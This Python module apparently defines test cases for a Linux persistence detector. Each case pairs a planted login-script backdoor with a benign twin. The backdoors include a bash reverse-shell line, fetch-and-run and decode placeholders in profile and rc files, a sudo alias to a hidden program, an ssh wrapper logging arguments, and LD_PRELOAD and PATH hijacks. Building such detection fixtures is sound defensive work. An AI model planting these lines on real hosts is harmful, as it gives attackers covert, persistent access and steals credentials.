"""What runs when somebody logs in: profiles, rc files, traps, variables, messages of the day."""

from __future__ import annotations

from typing import Final

from plantings.case import Act, Case, Twin, add, both, put, run, shell
from plantings.command import (
    DECODE,
    FETCH,
    HIDDEN,
    NOHUP_BACK,
    PYTHON_BACK,
    SH_BACK,
    TO,
    hidden,
    program,
    tool,
)

_SCRIPTS: Final = "Login scripts"
_ENV: Final = "Traps, env"
_MOTD: Final = "MOTD"
_ID: Final = "T1546.004"
_ANNA: Final = (1000, 1000)
_PANIX: Final = f"(nohup bash -i > {TO} 0<&1 2>&1 &)\n"
_HOME: Final = "/home/anna"


def _twin(slug: str, what: str, path: str, text: str, **more: str) -> Twin:
    return Twin(slug, what, path, add(path, text), **more)


def _script(
    slug: str,
    path: str,
    text: str,
    good: str,
    *,
    panix: str = "",
    what: str = "a line that runs code",
    act: Act | None = None,
) -> Case:
    """A line behind the end of such a script; the twin's line is at the same place."""
    twin = _twin(f"{slug}-own", "a setting of one's own", path, good)
    return Case(slug, _SCRIPTS, _ID, what, path, act or add(path, text), twin, panix)


def _variable(
    slug: str, technique: str, what: str, path: str, text: str, good: str, **twin: str
) -> Case:
    return Case(
        slug,
        _ENV,
        technique,
        what,
        path,
        add(path, text),
        _twin(f"{slug}-own", "a setting of one's own", path, good, **twin),
    )


CASES: Final = (
    _script("profile", "/etc/profile", _PANIX, "umask 027\n", panix="setup_shell_profile"),
    _script(
        "bash-profile",
        f"{_HOME}/.bash_profile",
        _PANIX,
        ". ~/.bashrc\nexport EDITOR=nano\n",
        panix="setup_shell_profile",
    ),
    _script(
        "profile-d",
        "/etc/profile.d/zz-lang.sh",
        f"({FETCH}) >/dev/null 2>&1 &\n",
        'export PATH="$PATH:/opt/orders/bin"\n',
    ),
    _script("bash-bashrc", "/etc/bash.bashrc", f"{DECODE}\n", "alias ll='ls -l'\n"),
    _script(
        "bash-completion",
        "/etc/bash_completion.d/systemctl-extra",
        f"{PYTHON_BACK} &\n",
        "complete -W 'start stop' orders\n",
    ),
    _script(
        "bashrc-program",
        "/home/bruno/.bashrc",
        f"{HIDDEN} >/dev/null 2>&1 &\n",
        "export HISTSIZE=5000\n",
        act=both(hidden(), add("/home/bruno/.bashrc", f"{HIDDEN} >/dev/null 2>&1 &\n")),
    ),
    _script("bash-logout", f"{_HOME}/.bash_logout", f"{FETCH}\n", "clear\n"),
    _script("zshenv", "/etc/zsh/zshenv", f"{FETCH}\n", "export EDITOR=nano\n"),
    _script("zshrc", f"{_HOME}/.zshrc", f"{SH_BACK} &\n", "setopt histignoredups\n"),
    _script("csh", "/etc/csh.cshrc", f"{FETCH} &\n", "set autolist\n"),
    _script("fish", "/etc/fish/conf.d/lang.fish", f"{FETCH} &\n", "set -gx EDITOR nano\n"),
    _script("kshrc", f"{_HOME}/.kshrc", f"{SH_BACK} &\n", "set -o vi\n"),
    _script("skel", "/etc/skel/.bashrc", f"{FETCH}\n", "alias la='ls -A'\n"),
    Case(
        "inputrc",
        _SCRIPTS,
        _ID,
        "a key that types a command",
        f"{_HOME}/.inputrc",
        put(f"{_HOME}/.inputrc", f'"\\C-l": "{FETCH}\\C-m"\n', owner=_ANNA),
        _twin(
            "inputrc-own",
            "a key that lists the folder",
            f"{_HOME}/.inputrc",
            'set bell-style none\n"\\C-xl": "\\C-a\\C-kls -l\\C-m"\n',
        ),
    ),
    _variable(
        "trap",
        "T1546.005",
        "code before every command",
        "/root/.bashrc",
        f"trap '{FETCH}' DEBUG\n",
        "trap 'echo bye' EXIT\n",
    ),
    _variable(
        "prompt-command",
        _ID,
        "code at every prompt",
        f"{_HOME}/.bashrc",
        f"PROMPT_COMMAND='{HIDDEN} 2>/dev/null'\n",
        "PROMPT_COMMAND='history -a'\n",
    ),
    _variable(
        "alias-sudo",
        _ID,
        "another command in the place of sudo",
        f"{_HOME}/.bash_aliases",
        f"alias sudo='{_HOME}/.cache/.s -p sudo'\n",
        "alias sudo='sudo '\nalias gs='git status'\n",
    ),
    _variable(
        "function-ssh",
        _ID,
        "a function in the place of ssh",
        f"{_HOME}/.bashrc",
        'ssh() { echo "$@" >> /var/tmp/.l; command ssh "$@"; }\n',
        'mkcd() { mkdir -p "$1" && cd "$1"; }\n',
    ),
    _variable(
        "bash-env",
        "T1574.007",
        "a file that every script reads",
        "/etc/environment",
        "BASH_ENV=/var/tmp/.cache/e\n",
        "LANG=en_GB.UTF-8\n",
    ),
    _variable(
        "path-first",
        "T1574.007",
        "a hidden folder first in the path",
        f"{_HOME}/.profile",
        "PATH=/var/tmp/.cache:$PATH\n",
        'PATH="$HOME/bin:$PATH"\n',
    ),
    _variable(
        "pam-env",
        "T1574.006",
        "a library for every login",
        "/etc/security/pam_env.conf",
        "LD_PRELOAD DEFAULT=/var/tmp/.cache/l.so\n",
        "EDITOR DEFAULT=nano\n",
        table="file",
    ),
    _variable(
        "pam-environment",
        "T1574.006",
        "a library for one person's logins",
        f"{_HOME}/.pam_environment",
        "LD_PRELOAD=/var/tmp/.cache/l.so\n",
        "LANG=en_GB.UTF-8\n",
    ),
    Case(
        "motd",
        _MOTD,
        "T1037",
        "a script that connects back",
        "/etc/update-motd.d/137-python-upgrades",
        run("/etc/update-motd.d/137-python-upgrades", shell(NOHUP_BACK)),
        Twin(
            "motd-disk",
            "how full the disk is",
            "/etc/update-motd.d/50-disk",
            run("/etc/update-motd.d/50-disk", shell("df -h / | tail -n 1")),
        ),
        "setup_motd_backdoor",
    ),
    Case(
        "motd-program",
        _MOTD,
        "T1037",
        "a script that starts a program of no package",
        "/etc/update-motd.d/60-updates",
        both(
            program("/usr/lib/update-notifier/apt-check2"),
            run("/etc/update-motd.d/60-updates", shell("/usr/lib/update-notifier/apt-check2 &")),
        ),
        Twin(
            "motd-tool",
            "a greeting of one's own",
            "/etc/update-motd.d/60-greeting",
            both(
                tool("/usr/local/bin/greeting"),
                run("/etc/update-motd.d/60-greeting", shell("/usr/local/bin/greeting")),
            ),
        ),
    ),
)
